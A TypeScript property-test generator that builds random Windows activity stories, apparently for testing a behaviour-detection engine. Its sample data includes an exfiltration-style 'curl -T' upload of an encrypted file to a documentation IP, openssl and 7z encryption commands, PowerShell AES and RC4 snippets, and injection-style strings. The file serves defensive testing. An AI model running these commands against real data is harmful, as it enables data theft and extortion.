/** Random Windows stories for property tests: order, duplication, truncation and agreement of shapes. */
import * as fc from 'fast-check';
import type { Story } from '../../src/stories/story.ts';
import type { StoryStep } from '../../src/stories/story-step.ts';

const IMAGES = [
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\curl.exe',
  'C:\\Program Files\\7-Zip\\7z.exe',
  'C:\\Program Files\\Git\\usr\\bin\\openssl.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Users\\Public\\tool.exe',
];

const COMMAND_LINES = [
  'powershell.exe -nop -c "$a=[Security.Cryptography.Aes]::Create();$a.CreateEncryptor()"',
  'openssl enc -aes-256-cbc -k x -in C:\\a.txt -out C:\\a.enc',
  '7z a -psecret C:\\a.7z C:\\data',
  'curl -T C:\\a.enc http://203.0.113.9/',
  'tool.exe /quiet',
];

const SCRIPTS = [
  '$aes = [System.Security.Cryptography.Aes]::Create()\n$aes.CreateEncryptor().TransformFinalBlock($b, 0, $b.Length)',
  '0..255 | % { $j = ($j + $s[$_] + $k[$_ % $k.Count]) % 256; $s[$_], $s[$j] = $s[$j], $s[$_] }; $x -bxor $s[$i]',
  'Get-Process | Sort-Object CPU',
];

/** Text an attacker could write: quotes, markup, line breaks, escapes, any Unicode. */
const hostileText = fc.oneof(
  fc.constantFrom(
    '"',
    '<x>&amp;',
    '\r\n',
    '\u0000\u001b[2J',
    '%%1936',
    '{name}',
    '__proto__',
    '=1+1',
    '\ud83d\ude00',
  ),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

const DESTINATIONS = ['203.0.113.9', '198.51.100.23', '10.0.0.20', '192.168.7.7', '2001:db8::9', '127.0.0.1'];

type Act = (process: string) => Omit<StoryStep, 'at'>;

const act: fc.Arbitrary<Act> = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(...DESTINATIONS),
      fc.constantFrom(80, 443, 8443, 53),
      fc.constantFrom('tcp', 'udp'),
    )
    .map(([to, port, protocol]): Act => (process) => ({
      connect: { process, to, port, protocol: protocol === 'udp' ? 'udp' : 'tcp' },
    })),
  fc
    .tuple(fc.oneof(fc.constantFrom(...SCRIPTS), hostileText), fc.integer({ min: 1, max: 4 }), fc.boolean())
    .map(([text, parts, shuffled]): Act => (process) => ({
      script: { process, text, parts, order: shuffled ? 'shuffled' : 'in-order' },
    })),
  fc
    .tuple(fc.domain(), fc.subarray(DESTINATIONS, { maxLength: 2 }))
    .map(([name, addresses]): Act => (process) => ({ dns: { process, name, addresses } })),
  fc.constant<Act>((process) => ({
    bindings: {
      process,
      command: 'New-Object',
      parameters: { TypeName: 'System.Security.Cryptography.AesManaged' },
    },
  })),
  fc.constantFrom('C:\\a.enc', 'C:\\a.7z').map((path): Act => (process) => ({ file: { process, path } })),
  fc.constant<Act>((process) => ({ inbound: { process, from: '10.0.0.77', port: 445 } })),
);

const life = fc.record({
  host: fc.boolean(),
  start: fc.integer({ min: -600_000, max: 600_000 }),
  image: fc.constantFrom(...IMAGES),
  commandLine: fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...COMMAND_LINES) },
    { weight: 1, arbitrary: hostileText },
  ),
  unseen: fc.boolean(),
  ends: fc.boolean(),
  acts: fc.array(fc.tuple(fc.integer({ min: 0, max: 60_000 }), act), { maxLength: 5 }),
});

/** Stories of one or two hosts and up to `processes` processes (default 5) that `checkStory` has no fault with. */
export function arbitraryStory(processes = 5): fc.Arbitrary<Story> {
  return fc.array(life, { minLength: 1, maxLength: processes }).map((lives): Story => ({
    id: 'arbitrary-story',
    title: 'Arbitrary',
    platform: 'windows',
    description: 'Generated.',
    hosts: {
      a: {
        name: 'HOSTA',
        fqdn: 'hosta.corp.example.org',
        addresses: ['10.0.0.5', 'fd00::5'],
        user: 'CORP\\ada',
      },
      b: { name: 'HOSTB', addresses: ['10.0.0.6', 'fd00::6'], user: 'CORP\\bob' },
    },
    external: ['198.51.100.0/24', '203.0.113.0/24', '2001:db8::/32'],
    start: '2026-05-05T12:00:00Z',
    steps: lives.flatMap((one, index) => stepsOf(one, `p${index}`)),
    expect: { nothingAbove: 'critical' },
  }));
}

type Life = typeof life extends fc.Arbitrary<infer T> ? T : never;

function stepsOf(one: Life, handle: string): readonly StoryStep[] {
  const { image, commandLine, unseen } = one;
  const acts = one.acts.map(([delay, make]) => ({ at: offset(one.start + delay), ...make(handle) }));
  const last = Math.max(one.start, ...one.acts.map(([delay]) => one.start + delay));
  return [
    {
      at: offset(one.start),
      host: one.host ? 'a' : 'b',
      process: { as: handle, image, commandLine, unseen },
    },
    ...acts,
    ...(one.ends ? [{ at: offset(last + 500), end: { process: handle } }] : []),
  ];
}

function offset(milliseconds: number): string {
  return `${milliseconds}ms`;
}
